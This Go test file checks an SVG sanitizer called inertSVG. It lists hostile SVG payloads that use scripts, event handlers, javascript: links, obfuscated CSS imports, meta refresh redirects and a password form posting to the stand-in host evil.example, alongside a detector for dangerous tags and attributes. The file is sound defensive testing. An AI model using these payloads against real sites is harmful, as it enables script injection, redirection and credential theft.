package snapshot

import (
	"bytes"
	"encoding/xml"
	"strings"
	"testing"
)

// actingSVG are pictures that do something when they are opened by themselves.
var actingSVG = []string{
	"<svg><script>x</script></svg>",
	"<svg onload='x'><a xlink:href='javascript:1'/></svg>",
	"<svg><style>@import 'https://evil.example/x'</style></svg>",
	"<svg><style>@IMPORT 'https://evil.example/x'</style></svg>",
	"<svg><style>@imp<![CDATA[ort 'https://evil.example/x']]></style></svg>",
	"<svg><style>@imp<!-- --><g>a</g>ort 'https://evil.example/x'</style></svg>",
	`<svg><rect style="fill:\75rl('https://evil.example/x')" fill="\75rl(https://evil.example/x)"/></svg>`,
	`<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:meta http-equiv="refresh" content="0;url=https://evil.example/"/></svg>`,
	`<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:form action="https://evil.example/"><h:input name="p" type="password"/><h:button formaction="https://evil.example">x</h:button></h:form></svg>`,
	`<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:img srcset="https://evil.example/x.png 1x"/><rect srcset="https://evil.example/x.png 1x"/></svg>`,
	`<svg><META xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/></svg>`,
	`<svg><use href="data:image/svg+xml,&lt;svg id='a'/&gt;#a"/><image href="https://evil.example/x"/></svg>`,
	`<svg><animate x:attributeName="fill" attributeName="href" to="https://evil.example/x"/></svg>`,
	`<?xml-stylesheet href="https://evil.example/x"?><svg/>`,
}

// svgActs reads a picture by itself and says what of it could act, "" if nothing.
func svgActs(picture []byte) string {
	in := xml.NewDecoder(bytes.NewReader(picture))
	for {
		token, err := in.RawToken()
		if err != nil {
			return "" // its end, or what makes a browser stop
		}
		t, ok := token.(xml.StartElement)
		if !ok {
			continue
		}
		switch name := strings.ToLower(t.Name.Local); name {
		case "meta", "form", "input", "button", "img", "script", "iframe", "object", "embed", "link", "base", "foreignobject", "set", "a":
			return "it has a " + name
		}
		for _, a := range t.Attr {
			name, value := strings.ToLower(a.Name.Local), strings.ToLower(a.Value)
			switch {
			case a.Name.Space == "xmlns" || name == "xmlns":
			case strings.HasPrefix(name, "on"), name == "srcset", name == "formaction", name == "action", name == "http-equiv":
				return "it has the attribute " + name
			case name == "href" && !strings.HasPrefix(value, "#") && (!strings.HasPrefix(strings.TrimSpace(value), "data:") || t.Name.Local == "use"):
				return "it refers to " + value
			case name == "attributename" && strings.Contains(value, "href"):
				return "it moves a reference"
			}
		}
	}
}

// What of a picture acts is gone, and the picture is left.
func TestSVGOnlyPaints(t *testing.T) {
	for _, picture := range actingSVG {
		out, ok := inertSVG([]byte(picture))
		if !ok || !bytes.Contains(out, []byte("<svg")) {
			t.Errorf("%s is no picture any more: %q", picture, out)
		}
		if why := svgActs(out); why != "" || bytes.Contains(out, []byte("evil.example")) {
			t.Errorf("%s became %s: %s", picture, out, why)
		}
	}
	paints := `<svg viewBox="0 0 9 9"><defs><linearGradient id="g"><stop offset="1"></stop></linearGradient><filter id="f"><feGaussianBlur stdDeviation="2"></feGaussianBlur></filter></defs>` +
		`<style>.a{fill:url(&#34;#g&#34;)}</style><g clip-path="url(&#34;#c&#34;)"><path class="a" d="M0 0h9"></path><use xlink:href="#p"></use>` +
		`<image href="data:image/png;base64,AA=="></image><text>url(x)</text><animate attributeName="fill" to="red"></animate></g></svg>`
	if out, ok := inertSVG([]byte(paints)); !ok || string(out) != paints {
		t.Errorf("it does not paint as it did:\n%s\n%s", paints, out)
	}
}
